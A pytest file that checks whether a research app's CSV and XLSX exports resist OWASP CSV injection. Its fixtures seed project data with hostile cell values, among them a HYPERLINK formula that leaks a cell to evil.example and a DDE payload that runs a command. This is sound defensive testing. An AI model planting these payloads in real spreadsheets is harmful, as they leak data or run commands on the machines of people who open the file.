"""Exports are safe to open in Excel (OWASP "CSV Injection"): every CSV and XLSX export, produced by the
real export functions from a project whose names, codes, passages, memos and cities are hostile, is read
back with the csv module, pandas and openpyxl; no cell is a formula, every CSV has a UTF-8 BOM, Chinese
text round-trips and numbers stay numbers."""
from __future__ import annotations

import csv
import io
import random
import re

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

import coding
import store
from coding.spreadsheet import neutralise, restore, to_csv_bytes, to_xlsx_bytes
from mixed.cases import case_table
from mixed.comparison import case_comparison
from mixed.joint import joint_display, joint_long
from mixed.themes import themes_display, themes_long
from quant.cases.typical_deviant import city_residual_from_dyads
from report.table_export import export_table
from report.tables import regression_table

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
DDE = "+cmd|' /C calc'!A0"
ARITH = "-2+3"
AT = "@SUM(1)"
TAB = "\t=1"
CR = "\r=1+1"
HOSTILE = [LINK, DDE, ARITH, AT, TAB, CR]
BOM = b"\xef\xbb\xbf"
# What a spreadsheet reads as a plain number (ASCII digits, optional sign, point and exponent): written
# independently of coding.spreadsheet, from the OWASP rule "no cell may begin with = + - @ tab CR".
_PLAIN_NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", re.ASCII)


def runs_as_formula(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") \
        and not _PLAIN_NUMBER.fullmatch(value)


def csv_cells(data: bytes) -> list[list[str]]:
    """Every cell of a CSV export, header included, after checking the byte-order mark."""
    assert data.startswith(BOM), "a CSV without a UTF-8 byte-order mark shows mojibake in Excel on Chinese Windows"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_csv_safe(data: bytes, *, hostile: list[str], chinese: list[str]) -> list[list[str]]:
    rows = csv_cells(data)
    cells = [c for row in rows for c in row]
    assert [c for c in cells if runs_as_formula(c)] == []
    for text in hostile:  # the hostile text is kept (behind one quote), not dropped
        assert any(c.startswith("'" + text) for c in cells), text
    for text in chinese:
        assert any(text in c for c in cells), text
    return rows


def xlsx_cells(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_xlsx_safe(data: bytes, *, hostile: list[str], chinese: list[str]) -> list:
    cells = xlsx_cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and runs_as_formula(c.value)] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for text in hostile:
        assert any(t.startswith("'" + text) for t in texts), text
    for text in chinese:
        assert any(text in t for t in texts), text
    return cells


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """The mixed/report test project with hostile names, codes, passages, memos, coders and cities."""
    import mixed_report_project as mrp

    engine = store.connect(tmp_path_factory.mktemp("exports") / "hostile.sqlite")
    with pytest.MonkeyPatch.context() as mp:
        interview = list(mrp.INTERVIEW)
        interview[2] = AT + " 说实话，有些协议签了以后没有落实任何事项。"  # coded whole ("mark")
        interview[3] = ARITH + " 两位局长以前在同一个单位工作过。"  # coded whole ("careers")
        policy = list(mrp.POLICY)
        policy[1] = LINK + " 各地要建立异地代收代办机制。"  # coded whole ("xss")
        mp.setattr(mrp, "INTERVIEW", interview)
        mp.setattr(mrp, "POLICY", policy)
        with store.session_scope(engine) as s:
            proj = mrp.build(s)
            codes = sorted(proj.cities)
            renamed = dict(zip(codes, [LINK, DDE, ARITH, AT, TAB, CR]))
            for city in s.scalars(select(store.City)):
                city.name = renamed.get(city.code, city.name)
            names = {"needs": "=SUM(1,2) 社会需求", "supply": DDE.replace("/", "|"), "mark": AT, "migrants": ARITH}
            for key, name in names.items():
                code = s.get(store.Code, proj.codes[key])
                code.name = name
                code.definition, code.inclusion, code.example = LINK, DDE, "流动人口 " + AT
            for doc in s.scalars(select(store.Document)):
                doc.name = LINK + " 访谈" if doc.kind == "interview" else ARITH + " 政策文件"
            for c in s.scalars(select(store.Coding)):
                c.coder, c.memo = "=evil() 编码员", DDE
    yield {"engine": engine, "project": proj, "city_names": renamed, "code_names": names}
    engine.dispose()


# --- the rule itself ------------------------------------------------------------------------------

def test_neutralise_follows_owasp_and_restore_inverts_it():
    assert neutralise(LINK) == "'" + LINK and neutralise(DDE) == "'" + DDE and neutralise(AT) == "'" + AT
    assert neutralise(ARITH) == "'-2+3" and neutralise(TAB) == "'\t=1" and neutralise(CR) == "'\r=1+1"
    assert neutralise("\0x") == "'\0x"  # NUL, as ASVS 1.2.10 lists
    for number in ("-0.3", "+12", "-1.5e-3", "3", ".5"):  # a spreadsheet reads these as numbers
        assert neutralise(number) == number
    for text in ("-0.345**", "-inf", "-1,234", "-0x10", "-１２"):  # not plain numbers: prefixed
        assert neutralise(text) == "'" + text
    assert neutralise("'quoted' words") == "''quoted' words" and restore("'quoted' words") == "'quoted' words"
    assert neutralise(-1.5) == -1.5 and neutralise(None) is None and neutralise("苏州") == "苏州"
    rng = random.Random(20261202)
    alphabet = "=+-@'\t\r\0 a1.e苏"
    samples = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6))) for _ in range(5000)]
    for s in samples:
        assert restore(neutralise(s)) == s
        assert not runs_as_formula(neutralise(s))


def test_the_checks_catch_a_naive_export():
    """The assertions below can fail: pandas' own CSV and Excel writers leave formulas in place."""
    frame = pd.DataFrame({"name": [LINK, "苏州"], "x": [-1.5, 2.0]})
    naive = frame.to_csv(index=False).encode("utf-8")
    with pytest.raises(AssertionError):
        csv_cells(naive)
    assert any(runs_as_formula(c) for row in csv.reader(io.StringIO(naive.decode())) for c in row)
    buf = io.BytesIO()
    frame.to_excel(buf, index=False, engine="openpyxl")
    assert any(c.data_type == "f" for c in xlsx_cells(buf.getvalue()))
    safe = [c for c in xlsx_cells(to_xlsx_bytes(frame))]
    assert [c.data_type for c in safe] == ["s", "s", "s", "n", "s", "n"]
    assert [c.value for c in safe] == ["name", "x", "'" + LINK, -1.5, "苏州", 2]


# --- every export, through the functions the pages and the CLI call --------------------------------

def test_codebook_csv_is_safe_and_round_trips_exactly(world, tmp_path):
    path = tmp_path / "codebook.csv"
    with store.session_scope(world["engine"]) as s:
        coding.export_codebook_csv(s, path)
        before = coding.codebook(s)[["path", "name", "definition", "inclusion", "example"]]
    rows = assert_csv_safe(path.read_bytes(), hostile=[LINK, DDE, AT, ARITH, "=SUM(1,2) 社会需求"],
                           chinese=["社会需求", "流动人口"])
    assert rows[0][0] == "path"
    buf = io.BytesIO()
    with store.session_scope(world["engine"]) as s:
        coding.export_codebook_csv(s, buf)
    assert buf.getvalue() == path.read_bytes()
    fresh = store.connect(tmp_path / "fresh.sqlite")
    with store.session_scope(fresh) as s:
        coding.import_codebook_csv(s, path.read_bytes())
        after = coding.codebook(s)[["path", "name", "definition", "inclusion", "example"]]
    fresh.dispose()
    key = lambda f: f.sort_values("path").reset_index(drop=True)  # noqa: E731
    pd.testing.assert_frame_equal(key(after), key(before))  # the quotes were taken off again


@pytest.mark.parametrize("kind", ["document", "city", "cooccurrence"])
def test_matrices_csv_and_xlsx_are_safe(world, kind, tmp_path):
    with store.session_scope(world["engine"]) as s:
        frame = {"document": coding.code_document_matrix, "city": coding.code_city_matrix,
                 "cooccurrence": coding.cooccurrence_matrix}[kind](s)
        docs = {d.id: d.name for d in s.scalars(select(store.Document))}
    hostile = [AT, "=SUM(1,2) 社会需求"]  # code paths (rows)
    if kind == "document":
        hostile += [LINK, ARITH]  # document names (columns)
    coding.export_matrix(frame, tmp_path / "m.csv")
    rows = assert_csv_safe((tmp_path / "m.csv").read_bytes(), hostile=hostile, chinese=["社会需求"])
    back = pd.read_csv(tmp_path / "m.csv", index_col=0, encoding="utf-8-sig")
    assert back.shape == frame.shape
    numbers = back.to_numpy(dtype=float)  # cells are numbers, not text
    assert numbers.ravel().tolist() == pytest.approx(frame.to_numpy(dtype=float).ravel().tolist(), nan_ok=True)
    assert [restore(c) for c in rows[0][1:]] == [str(c) for c in frame.columns]
    if kind == "document":
        assert set(restore(c) for c in rows[0][1:]) <= {str(i) for i in docs} | set(docs.values())
    buf = io.BytesIO()
    coding.export_matrix(frame, buf, fmt="xlsx")
    cells = assert_xlsx_safe(buf.getvalue(), hostile=hostile, chinese=["社会需求"])
    assert all(c.data_type == "n" for c in cells if c.row > 1 and c.column > 1)


def _passages(world) -> pd.DataFrame:
    with store.session_scope(world["engine"]) as s:
        return coding.retrieve(s, context=10)


def test_retrieved_passages_are_safe(world):
    found = _passages(world)
    assert len(found) == 5
    rows = assert_csv_safe(to_csv_bytes(found), hostile=[LINK, AT, ARITH, DDE, "=evil() 编码员"],
                           chinese=["两地之间人口流动很大", "政策文件"])
    back = pd.read_csv(io.BytesIO(to_csv_bytes(found)), encoding="utf-8-sig")
    assert back["start"].dtype.kind == "i" and back["coding_id"].tolist() == found["coding_id"].tolist()
    assert set(back["quote"].map(restore)) == set(found["quote"])  # every passage, exactly
    assert len(rows) == len(found) + 1
    assert_xlsx_safe(to_xlsx_bytes(found), hostile=[LINK, AT, ARITH, DDE], chinese=["两地之间人口流动很大"])


def test_city_residuals_are_safe(world):
    res = city_residual_from_dyads(world["project"].result)
    res.insert(1, "name", res["city"].map(world["city_names"]))  # as the Models page does
    data = to_csv_bytes(res)
    assert_csv_safe(data, hostile=HOSTILE, chinese=[])
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"city": str})
    assert back["residual"].dtype == float and back["residual"].tolist() == pytest.approx(res["residual"].tolist())
    assert (back["residual"] < 0).any()  # negative numbers stay numbers, unquoted


def test_cases_and_case_comparison_are_safe(world):
    proj = world["project"]
    with store.session_scope(world["engine"]) as s:
        cases = case_table(s, proj.result, c=1.0, n_typical=20)
        comparison = case_comparison(s, proj.result, cases)
    listed = set(cases["name_a"]) | set(cases["name_b"])
    hostile = [h for h in HOSTILE if h in listed]
    assert len(hostile) >= 3  # the case list does name hostile cities
    data = to_csv_bytes(cases)
    assert_csv_safe(data, hostile=hostile, chinese=["测试"])
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"city_a": str, "city_b": str})
    assert back["pearson"].dtype == float and back["pearson"].tolist() == pytest.approx(cases["pearson"].tolist())
    cells = assert_xlsx_safe(to_xlsx_bytes(cases, sheet="cases connection"), hostile=hostile, chinese=["测试"])
    header = {c.column: c.value for c in cells if c.row == 1}
    col = next(k for k, v in header.items() if v == "pearson")
    assert all(c.data_type == "n" for c in cells if c.column == col and c.row > 1)
    view = comparison.assign(qual_themes=["; ".join(t) for t in comparison["qual_themes"]])
    assert_csv_safe(to_csv_bytes(view), hostile=[h for h in hostile if any(h in str(v) for v in view["label"])],
                    chinese=["测试"])


def test_joint_displays_are_safe(world):
    proj = world["project"]
    with store.session_scope(world["engine"]) as s:
        long = joint_long(joint_display(s, proj.result, max_quotes=100))
        themes = themes_long(themes_display(s, proj.result))
    assert_csv_safe(to_csv_bytes(long), hostile=[LINK], chinese=["两地之间人口流动很大"])
    back = pd.read_csv(io.BytesIO(to_csv_bytes(long)), encoding="utf-8-sig")
    assert back.shape == long.shape
    # the tidy themes table keys rows as "dimension:code", so the hostile code name sits inside a cell
    assert_csv_safe(to_csv_bytes(themes), hostile=[], chinese=["connection:=SUM(1,2) 社会需求", "connection:@SUM(1)"])


def test_regression_table_csv_is_safe(world):
    proj = world["project"]
    table = regression_table([proj.result, proj.breadth_result], labels=["=(1) connection", "(2) breadth"])
    data = export_table(table, "csv")
    rows = assert_csv_safe(data, hostile=["=(1) connection"], chinese=[])
    coef = [c for row in rows[1:] for c in row[1:] if c.startswith("'-")]
    assert coef and all(_PLAIN_NUMBER.fullmatch(c[1:].rstrip("*")) for c in coef)  # "-0.345**" behind a quote
    plain = [c for row in rows[1:] for c in row[1:] if _PLAIN_NUMBER.fullmatch(c)]
    assert plain  # bare numbers stay as they are


def test_no_export_bypasses_coding_spreadsheet():
    """Every CSV/XLSX writer in the application goes through coding.spreadsheet (a new export that calls
    pandas or openpyxl directly fails here). Development scripts that write the demo's own source
    tables (data/demo/make_facts.py) and benchmarks are not exports."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writer = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(|ExcelWriter\(")
    offenders = []
    tops = [p for p in root.iterdir() if not p.name.startswith(".") and p.name not in ("tests", "bench")
            and "venv" not in p.name]
    files = [p for top in tops for p in ([top] if top.suffix == ".py" else sorted(top.rglob("*.py")) if top.is_dir()
                                         else [])]
    assert {"cli.py", "workbench.py"} <= {p.name for p in files}
    for path in files:
        rel = path.relative_to(root).as_posix()
        if rel in ("coding/spreadsheet.py", "data/demo/make_facts.py"):
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if writer.search(line):
                offenders.append(f"{rel}:{n}: {line.strip()}")
    assert offenders == []


def test_shapes_and_xlsx_limits():
    """Index and MultiIndex headers are neutralised too; XLSX replaces what XML cannot hold and keeps
    Excel's 32,767-character cell limit; empty frames still carry the BOM and the header."""
    m = pd.DataFrame([[1, -2.5]], columns=pd.MultiIndex.from_tuples([("=a", "x"), ("b", "y")]),
                     index=pd.Index(["@r"], name=None))
    assert csv_cells(to_csv_bytes(m, index=True)) == [["", "'=a / x", "b / y"], ["'@r", "1", "-2.5"]]
    long = pd.DataFrame({"t": ["=" + "长" * 40_000, "a\x01b"]})
    cells = xlsx_cells(to_xlsx_bytes(long))
    assert [len(c.value) for c in cells] == [1, 32_767, 3] and cells[1].value.startswith("'=长") \
        and cells[1].value.endswith("…") and cells[2].value == "a\ufffdb"
    assert csv_cells(to_csv_bytes(long))[1][0] == "'=" + "长" * 40_000  # CSV keeps everything
    assert to_csv_bytes(pd.DataFrame({"a": pd.Series([], dtype=object)})) == BOM + b'"a"\n'
